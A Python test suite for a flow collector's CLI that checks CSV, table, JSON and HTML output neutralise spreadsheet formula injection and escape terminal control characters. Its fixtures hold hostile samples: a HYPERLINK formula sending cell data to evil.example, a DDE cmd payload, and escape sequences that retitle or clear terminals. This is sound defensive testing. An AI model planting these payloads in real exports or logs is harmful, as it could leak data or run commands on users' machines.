"""Issue 16, rows 7 and 8, end to end: hostile names written to a real store by the store's own
writer, read back through the real CLI in a subprocess, and the bytes it prints checked.

Names come from outside (exporter options data, SNMP, reverse DNS, the hosts file): a CSV cell
must never start with what a spreadsheet runs as a formula, and no control character may reach a
terminal raw (a title change, a screen clear, a forged row)."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import re
import subprocess
import sys

import pytest

from collector.store import BinRow, IfRow, Store

T0 = 1_767_225_600
FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)", "\t=1+1", "\r=1+1"]
CONTROLS = ["\x1b]0;pwned\x07", "\x1b[2J\x1b[H", "eth0\nforged  999 TB", "cr\rover", "c1\x9b31m",
            "ls\u2028sep", "del\x7f", "bidi\u202eevil"]
HOSTILE = FORMULAS + CONTROLS
RAW = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")


def imflow(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "collector", *args], capture_output=True, timeout=120)


@pytest.fixture(scope="module")
def db(tmp_path_factory):
    path = str(tmp_path_factory.mktemp("hostile") / "imflow.db")
    rows = [BinRow(T0 + 60 * i, "192.0.2.1", "bittorrent", "p2p", name, 1000 + i, 2, 1, violation=True)
            for i, name in enumerate(HOSTILE)]
    if_rows = [IfRow(T0 + 60 * i, "192.0.2.1", i + 1, name, "in", "msn", "im", 1000 + i, 2, 1)
               for i, name in enumerate(HOSTILE)]

    async def write():
        store = Store(path, clock=lambda: T0 + 3600)
        await store.start()
        await store.write(rows, if_rows)
        await store.stop()
    asyncio.run(write())
    return path


def assert_no_raw_controls(out: bytes) -> str:
    text = out.decode("utf-8")
    bad = RAW.findall(text.replace("\r\n", "\n"))
    assert not bad, f"raw control characters reached the output: {bad!r}"
    assert "\r" not in text
    return text


def formula_cells(rows: list[list[str]]) -> list[str]:
    return [c for row in rows for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.mark.parametrize("by", ["interface", "host"])
def test_top_csv_neutralises_formulas_and_controls(db, by):
    p = imflow("top", "--db", db, "--since", "all", "--by", by, "--format", "csv", "--limit", "0")
    assert p.returncode == 0, p.stderr
    text = assert_no_raw_controls(p.stdout)
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == 1 + len(HOSTILE)
    assert formula_cells(rows) == []
    names = {r[0] for r in rows[1:]}
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")" in names and "'@SUM(1+1)" in names
    assert "'-2+3" in names


@pytest.mark.parametrize("by", ["interface", "host", "host,service", "interface,direction"])
def test_top_table_escapes_control_characters(db, by):
    p = imflow("top", "--db", db, "--since", "all", "--by", by, "--limit", "0")
    assert p.returncode == 0, p.stderr
    text = assert_no_raw_controls(p.stdout)
    lines = text.splitlines()
    # header, rule, one line per row, rule, total: nothing forged
    assert len(lines) == 4 + len(HOSTILE)
    assert "\\x1b]0;pwned\\x07" in text and "eth0\\nforged" in text and "ls\\u2028sep" in text


def test_top_json_escapes_c1_and_line_separators(db):
    p = imflow("top", "--db", db, "--since", "all", "--by", "interface", "--format", "json", "--limit", "0")
    assert p.returncode == 0, p.stderr
    assert_no_raw_controls(p.stdout)
    names = {r["interface"] for r in json.loads(p.stdout)}
    assert set(HOSTILE) <= names  # JSON keeps the exact value, escaped


@pytest.fixture(scope="module")
def config(tmp_path_factory):
    d = tmp_path_factory.mktemp("config")
    hosts = d / "hosts.toml"
    hosts.write_text("".join(f'[[host]]\nmatch = "10.0.0.{i + 1}"\nname = {json.dumps(name)}\n'
                             f'owner = {json.dumps("@" + name)}\n\n'
                             for i, name in enumerate(FORMULAS) if name[:1] not in "\t\r"))
    cfg = d / "imflow.toml"
    cfg.write_text(f'[policy]\nhosts_file = "{hosts}"\n[policy.categories]\np2p = "block"\n')
    return str(cfg)


@pytest.fixture(scope="module")
def named_db(tmp_path_factory):
    path = str(tmp_path_factory.mktemp("named") / "imflow.db")
    rows = [BinRow(T0 + 60 * i, "192.0.2.1", "bittorrent", "p2p", f"10.0.0.{i + 1}", 1000 + i, 2, 1,
                   violation=True) for i in range(len(FORMULAS))]

    async def write():
        store = Store(path, clock=lambda: T0 + 3600)
        await store.start()
        await store.write(rows)
        await store.stop()
    asyncio.run(write())
    return path


def test_violations_csv_neutralises_host_names_and_owners(named_db, config):
    p = imflow("violations", "--db", named_db, "--since", "all", "--config", config, "--format", "csv")
    assert p.returncode == 0, p.stderr
    rows = list(csv.reader(io.StringIO(assert_no_raw_controls(p.stdout))))
    assert len(rows) == 1 + len(FORMULAS)
    assert formula_cells(rows) == []
    assert {r[1] for r in rows[1:]} >= {"'-2+3", "'@SUM(1+1)"}
    assert {r[2] for r in rows[1:]} >= {"'@-2+3"}


@pytest.mark.parametrize("fmt", ["csv", "json", "html"])
def test_report_neutralises_host_names(named_db, config, fmt):
    p = imflow("report", "--db", named_db, "--since", "all", "--config", config, "--format", fmt)
    assert p.returncode == 0, p.stderr
    text = assert_no_raw_controls(p.stdout)
    if fmt == "csv":
        assert formula_cells(list(csv.reader(io.StringIO(text)))) == []


def test_violations_table_and_json_escape_dns_names(named_db, tmp_path, monkeypatch, capsys):
    """Reverse DNS answers are outside text too: a hostile resolver stands in for the system's
    (the real CLI in-process, `socket.gethostbyaddr` replaced)."""
    import socket

    from collector.cli import main

    evil = {f"10.0.0.{i + 1}": name for i, name in enumerate(CONTROLS)}
    monkeypatch.setattr(socket, "gethostbyaddr", lambda a: (evil.get(a, "x.example"), [], [a]))
    cfg = tmp_path / "imflow.toml"
    cfg.write_text('[policy]\nreverse_dns = true\n[policy.categories]\np2p = "block"\n')
    for fmt in ("table", "json", "csv"):
        assert main(["violations", "--db", named_db, "--since", "all", "--config", str(cfg), "--format", fmt]) == 0
        out = capsys.readouterr().out
        assert_no_raw_controls(out.encode())
        if fmt == "table":
            assert "\\x1b]0;pwned\\x07" in out
            assert len([line for line in out.splitlines() if "bittorrent" in line]) == len(FORMULAS)


def test_snmp_failure_log_line_escapes_the_agents_text(caplog):
    """A poll failure's message can quote pysnmp's or the agent's own text: one escaped log line."""
    from collector.snmp import Poller, parse_targets
    from collector.snmp.poller import AgentState, PollError

    (target,) = parse_targets({"targets": [{"exporter": "192.0.2.1", "community": "public"}]})
    poller = Poller([target])
    with caplog.at_level("WARNING", logger="collector.snmp.poller"):
        poller._failure(target, AgentState(target.exporter), PollError("other", "Bad\x1b]0;x\x07\nforged"), 0.1)
    (record,) = caplog.records
    assert "Bad\\x1b]0;x\\x07\\nforged" in record.getMessage()
    assert not RAW.search(record.getMessage())
